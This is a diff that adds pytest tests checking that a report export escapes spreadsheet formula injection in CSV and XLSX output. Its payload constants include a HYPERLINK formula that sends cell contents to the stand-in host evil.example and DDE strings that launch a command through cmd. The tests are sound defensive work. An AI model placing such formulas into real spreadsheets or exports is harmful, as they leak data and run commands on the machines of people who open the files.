@@ -4,12 +4,15 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import date
 
 import pytest
 from conftest import World
 from openpyxl import load_workbook
 from report_day import DAY, play_day
+
+from server.services.report_export import csv_text
 
 
 @pytest.fixture
@@ -129,3 +132,89 @@ def test_bad_export_arguments_are_422(client, world, query):
 def test_clerks_cannot_export(client, world):
     assert export(client, world, "format=xlsx", "clerk1").status_code == 403
     assert client.get(f"/api/v1/reports/export?office_id={world.office.id}").status_code == 401
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def rename_through_admin(client, world: World) -> None:
+    """An office admin names the office, a service and a clerk like formulas."""
+    admin = world.headers("admin")
+    renames = [
+        (f"/api/v1/admin/offices/{world.office.id}", {"name": "@SUM(1+1)*cmd|' /C calc'!A0"}),
+        (f"/api/v1/admin/services/{world.land.id}", {"name": HYPERLINK}),
+        (f"/api/v1/admin/users/{world.clerk1[0].id}", {"full_name": DDE}),
+    ]
+    for path, body in renames:
+        response = client.patch(path, json=body, headers=admin)
+        assert response.status_code == 200, response.get_data(as_text=True)
+
+
+def test_names_that_look_like_formulas_stay_text_in_the_csv(client, world, day):
+    rename_through_admin(client, world)
+    cells = []
+    for group in ("service", "counter", "clerk"):
+        response = export(client, world, f"format=csv&group={group}")
+        assert response.status_code == 200
+        rows = csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
+        cells += [cell for row in rows for cell in row]
+    assert "'" + HYPERLINK in cells
+    assert "'" + DDE in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+
+
+def test_names_that_look_like_formulas_are_string_cells_in_the_xlsx(client, world, day):
+    rename_through_admin(client, world)
+    response = export(client, world, "format=xlsx&period=day")
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(response.data))
+    text_cells = {
+        cell.value: cell.data_type
+        for sheet in workbook
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith(("=", "@"))
+    }
+    assert text_cells[HYPERLINK] == "s"
+    assert text_cells[DDE] == "s"
+    assert set(text_cells.values()) == {"s"}  # no formula anywhere
+    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
+
+
+def test_characters_xml_forbids_are_dropped_from_the_xlsx(client, world, day, session):
+    # Names stored before the admin checks existed may hold control characters.
+    world.land.name = "Đất\x01 đai\x0b\ufffe"
+    world.clerk1[0].full_name = "Trần\x00 Thị Một"
+    session.commit()
+    response = export(client, world, "format=xlsx&period=day")
+    assert response.status_code == 200, response.get_data(as_text=True)
+    workbook = load_workbook(io.BytesIO(response.data))
+    values = [v for row in workbook["Theo dịch vụ"].iter_rows(values_only=True) for v in row]
+    assert "Đất đai" in values
+    clerks = [v for row in workbook["Theo cán bộ"].iter_rows(values_only=True) for v in row]
+    assert "Trần Thị Một" in clerks
+    csv_response = export(client, world, "format=csv&group=service")
+    assert "Đất đai" in csv_response.data.decode("utf-8-sig")
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+84 912", "'+84 912"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("\rCR", "'\rCR"),
+        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
+        ("\x01=1+1", "'=1+1"),
+        ("Tư pháp – Hộ tịch", "Tư pháp – Hộ tịch"),
+        ("Quầy 1 = 2", "Quầy 1 = 2"),
+    ],
+)
+def test_csv_text_neutralises_formula_starts_only(name, cell):
+    assert csv_text(name) == cell
